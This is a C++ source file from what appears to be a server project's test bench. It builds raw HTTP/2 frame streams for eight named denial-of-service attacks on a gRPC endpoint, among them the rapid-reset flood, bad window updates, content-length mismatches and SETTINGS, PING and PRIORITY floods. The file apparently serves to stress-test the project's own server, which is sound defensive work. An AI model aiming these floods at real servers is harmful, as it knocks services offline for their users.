// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/bench/attack/attacks.h"

#include <cstdio>
#include <cstdlib>
#include <functional>

#include "tests/bench/load/wire.h"

namespace switchyard::bench {
namespace {

constexpr FrameType kPriority{2};
constexpr std::uint8_t kNothing = 0;
constexpr int kCalls = 20'000;            // of one connection
constexpr int kOpenStreams = 100;         // while windows change
constexpr std::size_t kSettings = 2'730;  // as many as a frame holds
constexpr std::uint16_t kInitialWindowSize = 4;
constexpr std::size_t kRepeated = 1 << 20;  // bytes of frames without a stream

std::string frame(FrameType type, std::uint8_t flags, std::uint32_t stream, std::string_view payload) {
  std::string bytes;
  putFrame(bytes, type, flags, stream, payload);
  return bytes;
}

std::string number(std::uint32_t value) {
  std::string bytes;
  put32(bytes, value);
  return bytes;
}

RepeatedHeaders request(std::string_view content_length = {}) {
  nghttp2_hd_deflater* deflater = nullptr;
  nghttp2_hd_deflate_new(&deflater, kDefaultTableSize);
  RepeatedHeaders::List fields{{":method", "POST"},
                               {":scheme", "http"},
                               {":path", "/dnt.DemoService/SayHello"},
                               {":authority", "bench"},
                               {"content-type", "application/grpc"},
                               {"te", "trailers"}};
  if (!content_length.empty()) fields.emplace_back("content-length", content_length);
  RepeatedHeaders headers_of_calls(deflater, fields);
  nghttp2_hd_deflate_del(deflater);
  return headers_of_calls;
}

/// `many` calls, each followed by what ruins it.
std::string calls(int many, RepeatedHeaders fields, std::uint8_t flags,
                  const std::function<std::string(std::uint32_t)>& ruin) {
  std::string bytes;
  for (int i = 0; i < many; ++i) {
    const auto stream = static_cast<std::uint32_t>(2 * i + 1);
    putFrame(bytes, headers, flags | kEndHeaders, stream, fields.next());
    bytes += ruin(stream);
  }
  return bytes;
}

std::string again(const std::string& bytes) {
  std::string all;
  while (all.size() < kRepeated) all += bytes;
  return all;
}

std::string windowSettings() {
  std::string values;
  for (std::size_t i = 0; i < kSettings; ++i) {
    values += std::string{0, kInitialWindowSize};
    put32(values, static_cast<std::uint32_t>(1'000 + i % 2));
  }
  return frame(settings, 0, 0, values);
}

}  // namespace

std::vector<std::string> attackNames() {
  return {"rapid-reset", "window-zero", "window-overflow", "data-after-end", "content-length",
          "settings",    "ping",        "priority"};
}

Attack prepare(std::string_view name) {
  Attack attack{std::string(name), std::string(kPreface) + frame(settings, 0, 0, {}), {}};
  const auto ruined = [&](RepeatedHeaders fields, std::uint8_t flags,
                          const std::function<std::string(std::uint32_t)>& by) {
    attack.repeated = calls(kCalls, std::move(fields), flags, by);
    attack.endless = false;
  };
  const auto window = [](std::uint32_t by) {
    return [by](std::uint32_t stream) { return frame(window_update, 0, stream, number(by)); };
  };
  constexpr std::uint32_t kCancel = 8;
  if (name == "rapid-reset")
    ruined(request(), kEndStream,
           [](std::uint32_t stream) { return frame(rst_stream, 0, stream, number(kCancel)); });
  else if (name == "window-zero")
    ruined(request(), kNothing, window(0));
  else if (name == "window-overflow")
    ruined(request(), kNothing, window(0x7fff'ffff));
  else if (name == "data-after-end")
    ruined(request(), kEndStream, [](std::uint32_t stream) { return frame(data, 0, stream, "x"); });
  else if (name == "content-length")
    ruined(request("1"), kNothing,
           [](std::uint32_t stream) { return frame(data, kEndStream, stream, "xx"); });
  else if (name == "settings") {
    attack.opening += calls(kOpenStreams, request(), kNothing, [](std::uint32_t) { return std::string(); });
    attack.repeated = again(windowSettings());
  } else if (name == "ping")
    attack.repeated = again(frame(ping, 0, 0, "12345678"));
  else if (name == "priority")
    attack.repeated = again(frame(kPriority, 0, 3, std::string(5, '\0')));
  else {
    std::fprintf(stderr, "bench_attack: no attack is named %s\n", attack.name.c_str());
    std::exit(2);
  }
  return attack;
}

}  // namespace switchyard::bench
